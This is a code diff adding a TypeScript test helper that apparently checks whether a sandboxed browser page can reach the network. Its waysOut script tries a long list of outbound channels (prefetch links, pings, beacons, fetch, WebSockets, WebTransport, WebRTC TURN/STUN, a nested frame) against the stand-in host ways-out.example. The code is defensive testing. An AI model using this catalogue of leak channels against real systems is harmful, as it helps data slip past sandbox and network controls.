@@ -1,0 +1,83 @@
+import { once } from "node:events";
+import { readFile } from "node:fs/promises";
+import { createServer, type AddressInfo } from "node:net";
+
+/** Every name that a way out names ends with this; nothing else of ours does. */
+const AWAY = "ways-out.example";
+
+/** A TURN server over TCP, as far as one that must never be reached has to be. */
+export async function openTurnServer() {
+  let connections = 0;
+  const server = createServer((socket) => {
+    connections += 1;
+    socket.destroy();
+  });
+  server.listen(0, "127.0.0.1");
+  await once(server, "listening");
+  return {
+    port: (server.address() as AddressInfo).port,
+    connections: (): number => connections,
+    close: async () => {
+      server.close();
+      await once(server, "close");
+    },
+  };
+}
+
+/** Opens a peer connection and waits until it has tried all of its servers. `turnPort`: on this computer. */
+const peerConnection = (turnPort: number): string => `new Promise((resolve) => {
+  const server = (urls) => ({ urls, username: "u", credential: "c" });
+  const peer = new RTCPeerConnection({ iceServers: [
+    server("turn:127.0.0.1:${turnPort}?transport=tcp"),
+    server("turns:127.0.0.1:${turnPort}?transport=tcp"),
+    server("turn:turn.${AWAY}:3478?transport=tcp"),
+    server("turn:dotted.${AWAY}.:3478?transport=tcp"),
+    server("turns:turns.${AWAY}:5349?transport=tcp"),
+    server("turn:turn-udp.${AWAY}:3478"),
+    { urls: "stun:stun.${AWAY}:3478" },
+  ] });
+  peer.createDataChannel("x");
+  peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === "complete") resolve(peer.close()); };
+  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+})`;
+
+/** Whatever a script can do to have a byte leave, or a name looked up. `outside`: the origin of a server on this computer. */
+export const waysOut = (outside: string, turnPort: number): string => `(async () => {
+  const away = (way, scheme = "https") => scheme + "://" + way + ".${AWAY}/";
+  const add = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
+  for (const rel of ["dns-prefetch", "preconnect", "prefetch", "prerender", "preload", "modulepreload", "stylesheet", "icon", "manifest"])
+    add("link", { rel, as: "script", href: away(rel) });
+  add("a", { href: away("anchor"), ping: away("ping"), textContent: "x" });
+  add("img", { src: away("image") });
+  add("iframe", { src: away("iframe") });
+  add("object", { data: away("object") });
+  add("video", { src: away("video") });
+  add("form", { action: away("form"), method: "post", target: add("iframe", { name: "target" }).name }).submit();
+  add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [away("speculation")] }] }) });
+  navigator.sendBeacon(away("beacon"), "x");
+  const settled = (make) => new Promise((resolve) => { try { make(resolve) } catch { resolve() } });
+  for (const to of [away("fetch", "http"), away("fetch"), "${outside}/fetch"]) await fetch(to, { mode: "no-cors" }).catch(() => 0);
+  for (const to of [away("socket", "ws"), "${outside.replace("http", "ws")}/socket"])
+    await settled((resolve) => { new WebSocket(to).onerror = resolve; });
+  await settled((resolve) => { new EventSource(away("events")).onerror = resolve; });
+  await settled((resolve) => new WebTransport(away("transport")).ready.catch(resolve));
+  await settled((resolve) => { add("img", { src: "${outside}/image" }).onerror = resolve; });
+  await ${peerConnection(turnPort)};
+  // A frame has its own WebRTC.
+  add("iframe", {}).contentWindow.eval(${JSON.stringify(peerConnection(turnPort))}).catch(() => 0);
+  return "tried";
+})()`;
+
+interface NetLog {
+  readonly constants: { readonly logEventTypes: Readonly<Record<string, number>> };
+  readonly events: readonly { readonly type: number; readonly params?: unknown }[];
+}
+
+/** The names of ways out that Chromium began to look up, by its own log. */
+export async function namesLookedUp(file: string): Promise<string[]> {
+  const { constants, events } = JSON.parse(await readFile(file, "utf8")) as NetLog;
+  const { HOST_RESOLVER_MANAGER_JOB, DNS_TRANSACTION } = constants.logEventTypes;
+  const lookUps = events.filter(({ type }) => type === HOST_RESOLVER_MANAGER_JOB || type === DNS_TRANSACTION);
+  const name = new RegExp(`[\\w-]+(?=\\.${AWAY.replaceAll(".", "\\.")})`, "g");
+  return [...new Set(lookUps.flatMap(({ params }) => JSON.stringify(params ?? {}).match(name) ?? []))].toSorted();
+}
